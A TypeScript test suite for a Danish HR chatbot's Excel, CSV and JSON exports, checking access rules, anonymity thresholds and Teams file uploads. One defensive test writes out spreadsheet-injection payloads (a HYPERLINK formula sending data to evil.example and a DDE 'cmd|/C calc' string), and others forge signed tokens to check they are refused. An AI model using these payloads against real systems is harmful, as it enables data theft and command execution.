import type { AddressInfo } from 'node:net';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { verbs } from '../../src/bot/verbs';
import { signExportLink } from '../../src/domain/exportLink';
import { createLogger } from '../../src/logger';
import { createServer } from '../../src/server';
import { downloadExport } from '../../src/services/exports';
import { demoId, rateThemselves } from '../support/ratings';
import { botHarness, demo, visibleText } from '../support/botHarness';

// Exports through the real HTTP route: the bot hands out signed links in chat, the file is made
// when the link is opened, with the anonymity rules and the person's access as they are then.
let harness: Awaited<ReturnType<typeof botHarness>>;
let baseUrl = '';
let close = () => {};
const cycle = String(new Date().getUTCFullYear());
const id = demoId;
const hiddenNote = 'Ingen tal udgivet (for få svar, under 5, eller de ville kunne pege på nogen)';

beforeAll(async () => {
  harness = await botHarness();
  await harness.repos.departmentSettings.setProfile('hjemmeplejen-nord', cycle, { samarbejdskompetence: 4 });
  await rateThemselves(harness.repos, [1, 3, 4, 7, 8, 9].map(id), cycle, 'hjemmeplejen-nord', { samarbejdskompetence: 2 });
  await rateThemselves(harness.repos, [16, 17].map(id), cycle, 'borgerservice', { samarbejdskompetence: 5 });
  await harness.publish();
  // Mette's own words, and Sofie's, to see whose end up where.
  const mette = (await harness.repos.preparations.load(id(1), cycle))!;
  await harness.repos.preparations.saveStep(id(1), mette, 'theme-looking-back', { kind: 'questions', answers: { 'looking-back-proud': 'Mette er stolt af nattevagterne' } }, true);
  const sofie = (await harness.repos.preparations.load(id(3), cycle))!;
  await harness.repos.preparations.saveStep(id(3), sofie, 'theme-looking-back', { kind: 'questions', answers: { 'looking-back-proud': 'Sofies hemmelige svar' } }, true);
  const plan = await harness.repos.plans.load(id(1), cycle, 'hjemmeplejen-nord');
  await harness.repos.plans.save(id(1), cycle, plan, {
    ...plan.plan, revision: 1, goals: [{ id: 'g1', competenceId: 'kommunikationskompetence', goal: 'Bedre overlevering', evaluation: 'Ved MUS', actions: [] }],
  }, id(2));

  const exports = harness.config.exports!;
  const server = createServer({
    logger: createLogger('silent'), handleMessages: async () => {}, checkStorage: async () => {},
    downloadExport: (token) => downloadExport(harness.repos, harness.domainData, token, exports.linkKey, harness.config.anonymityThreshold, new Date()),
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  close = () => server.close();
});
afterAll(() => close());

/** The download links on the bot's answer, pointed at this test's server. */
function links(replies: Awaited<ReturnType<typeof harness.say>>): Map<string, string> {
  const card = replies.find((r) => r.attachments?.length)!.attachments![0]!.content as { actions: Array<{ type: string; title: string; url: string }> };
  return new Map(card.actions.filter((a) => a.type === 'Action.OpenUrl').map((a) => [a.title, a.url.replace(harness.config.exports!.baseUrl, baseUrl)]));
}

async function sheet(url: string) {
  const response = await fetch(url);
  expect(response.status).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(await response.arrayBuffer());
  return workbook.worksheets[0]!;
}
const rowOf = (ws: ExcelJS.Worksheet, name: string) => ws.getRows(1, ws.rowCount)!.find((r) => r.getCell(1).value === name)!;

describe('exporting a department gap summary', () => {
  it('when Lars asks from his gap card, then the Excel file has exactly the figures the card shows and nothing for hidden competences', async () => {
    const card = visibleText((await harness.submit(demo.lars, { verb: verbs.gapsOpen, departmentId: 'hjemmeplejen-nord' }))[0]!);
    expect(card).toContain('Eksportér');
    const offered = links(await harness.submit(demo.lars, { verb: verbs.exportRequest, kind: 'department-gaps', subjectId: 'hjemmeplejen-nord' }));
    expect([...offered.keys()]).toEqual(['Hent Excel', 'Hent CSV']);
    const ws = await sheet(offered.get('Hent Excel')!);
    const collaboration = rowOf(ws, 'Samarbejdskompetence');
    expect([collaboration.getCell(2).value, collaboration.getCell(3).value, collaboration.getCell(4).value, collaboration.getCell(7).value]).toEqual([4, 2, 2, 6]);
    const communication = rowOf(ws, 'Kommunikationskompetence');
    expect(communication.getCell(3).value ?? '').toBe('');
    expect(String(communication.getCell(ws.columnCount).value)).toBe(hiddenNote);

    const csv = await fetch(offered.get('Hent CSV')!);
    expect(csv.headers.get('content-type')).toContain('text/csv');
    expect(csv.headers.get('content-disposition')).toBe(`attachment; filename="kompetencegab-hjemmeplejen-nord-${cycle}.csv"`);
    expect(csv.headers.get('cache-control')).toBe('no-store');
    // … and when the figures were published, as on the card.
    expect(await csv.text()).toMatch(/Samarbejdskompetence;4;2;2;;;6;0;6;0;0;0;\d+\.\s\p{L}+ \d{4} kl\. \d\d\.\d\d;/u);
  });

  it('when Birgitte exports Borgerservice, where two rated, then the file has no figures at all', async () => {
    const ws = await sheet(links(await harness.submit(demo.birgitte, { verb: verbs.exportRequest, kind: 'department-gaps', subjectId: 'borgerservice' })).get('Hent Excel')!);
    for (let r = 2; r <= ws.rowCount; r++) {
      expect(ws.getRow(r).getCell(3).value ?? '').toBe('');
      expect(ws.getRow(r).getCell(7).value ?? '').toBe('');
    }
  });

  it("when Birgitte asks for Hjemmeplejen Nord's gaps, then she gets no link; a link altered to point there is refused", async () => {
    const replies = await harness.submit(demo.birgitte, { verb: verbs.exportRequest, kind: 'department-gaps', subjectId: 'hjemmeplejen-nord' });
    expect(replies.map(visibleText).join('\n')).toContain('ikke adgang');
    expect(replies.some((r) => r.attachments?.length)).toBe(false);
    const own = links(await harness.submit(demo.birgitte, { verb: verbs.exportRequest, kind: 'department-gaps', subjectId: 'borgerservice' })).get('Hent Excel')!;
    const [body, signature] = own.split('/api/exports/')[1]!.split('.');
    const claims = JSON.parse(Buffer.from(body!, 'base64url').toString('utf8'));
    const forged = `${Buffer.from(JSON.stringify({ ...claims, subject: 'hjemmeplejen-nord' })).toString('base64url')}.${signature}`;
    const response = await fetch(`${baseUrl}/api/exports/${forged}`);
    expect(response.status).toBe(403);
    expect(await response.text()).toContain('Linket er ikke gyldigt');
  });

  it('when a link has expired, then it is refused and says to ask again', async () => {
    const token = signExportLink({ v: 1, kind: 'department-gaps', format: 'csv', personId: id(2), subject: 'hjemmeplejen-nord', cycle, exp: Math.floor(Date.now() / 1000) - 1 }, harness.config.exports!.linkKey);
    const response = await fetch(`${baseUrl}/api/exports/${token}`);
    expect(response.status).toBe(410);
    expect(await response.text()).toContain('bed Kompetencebot om et nyt');
  });

  it('when a valid link belongs to someone who is no longer registered, then it is refused', async () => {
    const token = signExportLink({ v: 1, kind: 'my-data', format: 'json', personId: demo.stranger.aadObjectId, subject: '', cycle, exp: Math.floor(Date.now() / 1000) + 60 }, harness.config.exports!.linkKey);
    expect((await fetch(`${baseUrl}/api/exports/${token}`)).status).toBe(403);
  });
});

describe("exporting the department's development plans", () => {
  it("when Lars exports them, then the file lists each employee's goals, and each read is in the audit log", async () => {
    const card = visibleText((await harness.say(demo.lars, 'min afdeling'))[0]!);
    expect(card).toContain('Eksportér udviklingsplaner');
    const ws = await sheet(links(await harness.submit(demo.lars, { verb: verbs.exportRequest, kind: 'department-plans', subjectId: 'hjemmeplejen-nord' })).get('Hent Excel')!);
    const mette = rowOf(ws, 'Mette Jensen');
    expect(mette.getCell(6).value).toBe('Bedre overlevering');
    expect(mette.getCell(5).value).toBe('Kommunikationskompetence');
    expect(rowOf(ws, 'Sofie Hansen').getCell(2).value).toBe('Ingen plan endnu');
    const log = await harness.repos.audit.latest(50);
    expect(log.some((e) => e.readerId === id(2) && e.subjectIds.includes(id(1)) && e.kind === 'plan')).toBe(true);
  });

  it('when an employee asks for them, then it is refused', async () => {
    expect((await harness.submit(demo.mette, { verb: verbs.exportRequest, kind: 'department-plans', subjectId: 'hjemmeplejen-nord' })).map(visibleText).join('\n')).toContain('ikke adgang');
  });

  it("when a goal was typed as a spreadsheet formula, then Lars's CSV has it as inert text with a leading apostrophe and his Excel file as a text cell", async () => {
    const attack = '=HYPERLINK("https://evil.example/?d="&A2,"Klik")';
    const plan = await harness.repos.plans.load(id(8), cycle, 'hjemmeplejen-nord');
    await harness.repos.plans.save(id(8), cycle, plan, {
      ...plan.plan, revision: 1, goals: [{ id: 'g1', competenceId: 'kommunikationskompetence', goal: attack, evaluation: '@SUM(1+1)*cmd|/C calc', actions: [] }],
    }, id(8));
    const offered = links(await harness.submit(demo.lars, { verb: verbs.exportRequest, kind: 'department-plans', subjectId: 'hjemmeplejen-nord' }));
    const { parse } = await import('csv-parse/sync');
    const csv = parse((await (await fetch(offered.get('Hent CSV')!)).text()).replace(/^\uFEFF/, ''), { delimiter: ';', relax_column_count: true }) as string[][];
    const peter = csv.find((row) => row[0] === 'Peter Larsen')!;
    expect(peter[5]).toBe(`'${attack}`);
    expect(peter[6]).toBe("'@SUM(1+1)*cmd|/C calc");
    const ws = await sheet(offered.get('Hent Excel')!);
    const cell = rowOf(ws, 'Peter Larsen').getCell(6);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(attack);
    expect(cell.formula).toBeUndefined();
  });
});

describe("HR's municipality-wide figures", () => {
  it('when Camilla exports them, then each department and the whole municipality have a row per competence, under the same rules', async () => {
    expect(visibleText((await harness.say(demo.camilla, 'kommunen'))[0]!)).toContain('Eksportér');
    const ws = await sheet(links(await harness.submit(demo.camilla, { verb: verbs.exportRequest, kind: 'municipality', subjectId: '' })).get('Hent Excel')!);
    const rows = ws.getRows(2, ws.rowCount - 1)!;
    const of = (unit: string, competence: string) => rows.find((r) => r.getCell(1).value === unit && r.getCell(3).value === competence)!;
    expect(of('Hjemmeplejen Nord', 'Samarbejdskompetence').getCell(5).value).toBe(2);
    expect(of('Borgerservice', 'Samarbejdskompetence').getCell(5).value ?? '').toBe('');
    // The municipality's eight minus Hjemmeplejen Nord's six would be Borgerservice's two: the
    // larger figure gives way, in the file as on the card.
    expect(of('Hele kommunen', 'Samarbejdskompetence').getCell(5).value ?? '').toBe('');
    expect(String(of('Hele kommunen', 'Samarbejdskompetence').getCell(ws.columnCount).value)).toBe(hiddenNote);
    expect(rows.filter((r) => r.getCell(1).value === 'Borgerservice').every((r) => (r.getCell(5).value ?? '') === '')).toBe(true);
  });

  it('when a leader asks for them, then it is refused', async () => {
    expect((await harness.submit(demo.lars, { verb: verbs.exportRequest, kind: 'municipality', subjectId: '' })).map(visibleText).join('\n')).toContain('ikke adgang');
  });
});

describe('mine data', () => {
  it("when Mette types 'mine data', then the JSON holds her answers, ratings and plan, and none of Sofie's", async () => {
    const offered = links(await harness.say(demo.mette, 'mine data'));
    expect([...offered.keys()]).toEqual(['Hent JSON', 'Hent Excel']);
    const response = await fetch(offered.get('Hent JSON')!);
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="mine-data-\d{4}-\d\d-\d\d\.json"$/);
    const data = await response.json() as { person: { name: string }; rows: Array<{ table: string }> };
    const text = JSON.stringify(data);
    expect(data.person.name).toBe('Mette Jensen');
    expect(text).toContain('Mette er stolt af nattevagterne');
    expect(text).toContain('Bedre overlevering');
    expect(new Set(data.rows.map((r) => r.table))).toEqual(new Set(['people', 'memberships', 'preparations', 'plans', 'conversations']));
    expect(text).not.toContain('Sofies hemmelige svar');
    const ws = await sheet(offered.get('Hent Excel')!);
    expect(ws.getRow(1).getCell(1).value).toBe('partitionKey');
  });

  it('when Ahmad (no language set by HR) writes in English, then the card is in English', async () => {
    const offered = links(await harness.say(demo.ahmad, 'my data', { locale: 'en-GB' }));
    expect([...offered.keys()]).toEqual(['Download JSON', 'Download Excel']);
  });
});

describe('an export as a file in the chat (Teams file consent)', () => {
  // Stands in for the person's OneDrive: Teams hands the bot an upload URL when they accept.
  const uploads: Array<{ path: string; headers: Record<string, string | string[] | undefined>; body: Buffer }> = [];
  let oneDrive = '';
  let answer = 201;
  let closeOneDrive = () => {};
  beforeAll(async () => {
    const { createServer: createHttpServer } = await import('node:http');
    const server = createHttpServer((req, res) => {
      const chunks: Buffer[] = [];
      req.on('data', (c: Buffer) => chunks.push(c));
      req.on('end', () => {
        if (req.method === 'PUT') uploads.push({ path: req.url ?? '', headers: req.headers, body: Buffer.concat(chunks) });
        // An upload URL that sends the file on elsewhere (here: plain http on another path).
        if (req.url?.startsWith('/redirect/')) {
          res.writeHead(307, { location: `${oneDrive}/stolen${req.url.slice('/redirect'.length)}` });
          res.end();
          return;
        }
        res.statusCode = answer;
        res.end('{}');
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    oneDrive = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    closeOneDrive = () => server.close();
  });
  afterAll(() => closeOneDrive());

  type Consent = { contentType: string; name: string; content: { sizeInBytes: number; acceptContext: Record<string, string>; declineContext: Record<string, string> } };
  const consentOf = (replies: Awaited<ReturnType<typeof harness.say>>) =>
    replies.flatMap((r) => r.attachments ?? []).find((a) => a.contentType === 'application/vnd.microsoft.teams.card.file.consent') as Consent | undefined;
  const accept = (user: typeof demo.mette, context: unknown, name: string, uploadPath = 'upload') => harness.invoke(user, 'fileConsent/invoke', {
    type: 'fileUpload', action: 'accept', context,
    uploadInfo: { name, uploadUrl: `${oneDrive}/${uploadPath}/${name}`, contentUrl: `${oneDrive}/files/${name}`, uniqueId: 'file-1', fileType: 'xlsx' },
  });
  /** The consent Teams shows when Mette asks for her data as a file: its signed context. */
  const offeredConsent = async () => {
    const offer = (await harness.say(demo.mette, 'mine data'))[0]!;
    const button = (offer.attachments![0]!.content as { actions: Array<{ type: string; data?: Record<string, string> }> }).actions.find((a) => a.type === 'Action.Submit')!;
    return consentOf(await harness.submit(demo.mette, button.data!))!;
  };
  const signedFor = (personId: string, kind: 'my-data' | 'department-plans', subject: string, expiresIn = 60) =>
    ({ token: signExportLink({ v: 1, kind, format: 'xlsx', personId, subject, cycle, exp: Math.floor(Date.now() / 1000) + expiresIn }, harness.config.exports!.linkKey) });
  const invokeStatus = (replies: Awaited<ReturnType<typeof harness.say>>) => (replies.find((r) => r.type === 'invokeResponse')?.value as { status: number } | undefined)?.status;

  it("when Mette asks for her data as a file and accepts, then her Excel file lands in her OneDrive and shows in the chat", async () => {
    const offer = (await harness.say(demo.mette, 'mine data'))[0]!;
    const button = (offer.attachments![0]!.content as { actions: Array<{ type: string; title: string; data?: Record<string, string> }> }).actions.find((a) => a.type === 'Action.Submit')!;
    expect(button.title).toBe('Send Excel-filen her i chatten');
    const consent = consentOf(await harness.submit(demo.mette, button.data!))!;
    expect(consent.name).toMatch(/^mine-data-\d{4}-\d{2}-\d{2}\.xlsx$/);
    expect(consent.content.sizeInBytes).toBeGreaterThan(1000);

    const replies = await accept(demo.mette, consent.content.acceptContext, consent.name);
    expect(invokeStatus(replies)).toBe(200);
    expect(uploads).toHaveLength(1);
    const [upload] = uploads;
    expect(upload!.path).toBe(`/upload/${consent.name}`);
    expect(upload!.headers['content-range']).toBe(`bytes 0-${upload!.body.length - 1}/${upload!.body.length}`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Uint8Array.from(upload!.body).buffer);
    const everything = workbook.worksheets.flatMap((ws) => ws.getSheetValues().flat().map(String)).join('\n');
    expect(everything).toContain('Mette er stolt af nattevagterne');
    expect(everything).not.toContain('Sofies hemmelige svar');
    const shown = replies.flatMap((r) => r.attachments ?? []).find((a) => a.contentType === 'application/vnd.microsoft.teams.card.file.info');
    expect(shown).toMatchObject({ contentUrl: `${oneDrive}/files/${consent.name}`, name: consent.name, content: { uniqueId: 'file-1', fileType: 'xlsx' } });
  });

  it('when Mette declines, then nothing is uploaded and she is told the links still work', async () => {
    uploads.length = 0;
    const replies = await harness.invoke(demo.mette, 'fileConsent/invoke', { type: 'fileUpload', action: 'decline', context: (await offeredConsent()).content.declineContext });
    expect(invokeStatus(replies)).toBe(200);
    expect(replies.map(visibleText).join('\n')).toContain('Filen er ikke sendt');
    expect(uploads).toHaveLength(0);
  });

  it("when a validly signed consent names a department's plans Mette may not see, then nothing is uploaded and she is told she has no access", async () => {
    uploads.length = 0;
    const replies = await accept(demo.mette, signedFor(demo.mette.aadObjectId, 'department-plans', 'hjemmeplejen-nord'), 'plans.xlsx');
    expect(invokeStatus(replies)).toBe(200);
    expect(replies.map(visibleText).join('\n')).toContain('ikke adgang');
    expect(uploads).toHaveLength(0);
  });

  it('when the consent carries no context Teams should have returned, then she is told to ask again and nothing is uploaded', async () => {
    uploads.length = 0;
    const replies = await accept(demo.mette, { kind: 'everything' }, 'x.xlsx');
    expect(replies.map(visibleText).join('\n')).toContain('Bed om filen igen');
    expect(uploads).toHaveLength(0);
  });

  it("when the client changes the consent's kind, department or cycle, or hands on someone else's, then nothing is made or uploaded", async () => {
    const { token } = (await offeredConsent()).content.acceptContext as { token: string };
    expect(token).toMatch(/^[\w-]+\.[\w-]{43}$/);
    const [body, signature] = token.split('.') as [string, string];
    const claims = JSON.parse(Buffer.from(body, 'base64url').toString('utf8')) as Record<string, unknown>;
    expect(claims).toMatchObject({ kind: 'my-data', subject: '', cycle, personId: demo.mette.aadObjectId, format: 'xlsx' });
    uploads.length = 0;
    for (const change of [{ kind: 'department-plans', subject: 'hjemmeplejen-nord' }, { cycle: '2020' }, { personId: demo.lars.aadObjectId }]) {
      const forged = `${Buffer.from(JSON.stringify({ ...claims, ...change })).toString('base64url')}.${signature}`;
      expect((await accept(demo.mette, { token: forged }, 'x.xlsx')).map(visibleText).join('\n'), JSON.stringify(change)).toContain('Bed om filen igen');
    }
    // Lars's own, genuine consent accepted by Mette: not hers.
    expect((await accept(demo.mette, signedFor(demo.lars.aadObjectId, 'my-data', ''), 'x.xlsx')).map(visibleText).join('\n')).toContain('Bed om filen igen');
    // The old unsigned context is no consent at all.
    expect((await accept(demo.mette, { kind: 'my-data', subjectId: '', cycle }, 'x.xlsx')).map(visibleText).join('\n')).toContain('Bed om filen igen');
    expect(uploads).toHaveLength(0);
  });

  it('when she accepts a consent after it expired, then she is asked to ask again and nothing is uploaded', async () => {
    uploads.length = 0;
    const replies = await accept(demo.mette, signedFor(demo.mette.aadObjectId, 'my-data', '', -1), 'mine.xlsx');
    expect(replies.map(visibleText).join('\n')).toContain('Bed om den igen');
    expect(uploads).toHaveLength(0);
  });

  it('when the upload URL answers with a redirect to plain http, then it is not followed and she is told the file was not sent', async () => {
    const consent = await offeredConsent();
    uploads.length = 0;
    const replies = await accept(demo.mette, consent.content.acceptContext, consent.name, 'redirect');
    expect(replies.map(visibleText).join('\n')).toContain('Filen kunne ikke lægges i din OneDrive');
    expect(uploads.map((u) => u.path)).toEqual([`/redirect/${consent.name}`]);
    expect(replies.flatMap((r) => r.attachments ?? []).some((a) => a.contentType === 'application/vnd.microsoft.teams.card.file.info')).toBe(false);
  });

  it('when OneDrive refuses the upload, then she is told it was not sent (and no file card claims otherwise)', async () => {
    const consent = await offeredConsent();
    answer = 500;
    try {
      const replies = await accept(demo.mette, consent.content.acceptContext, consent.name);
      expect(invokeStatus(replies)).toBe(200);
      expect(replies.map(visibleText).join('\n')).toContain('Filen kunne ikke lægges i din OneDrive');
      expect(replies.flatMap((r) => r.attachments ?? []).some((a) => a.contentType === 'application/vnd.microsoft.teams.card.file.info')).toBe(false);
    } finally {
      answer = 201;
    }
  });

  it('when Lars asks for a file from a team channel, then he is told files go in his own chat', async () => {
    const replies = await harness.say(demo.lars, 'mine data', { scope: 'channel' });
    const card = replies.find((r) => r.attachments?.length)?.attachments?.[0]?.content as { actions: Array<{ type: string }> } | undefined;
    expect(card?.actions.some((a) => a.type === 'Action.Submit')).toBe(false);
  });
});
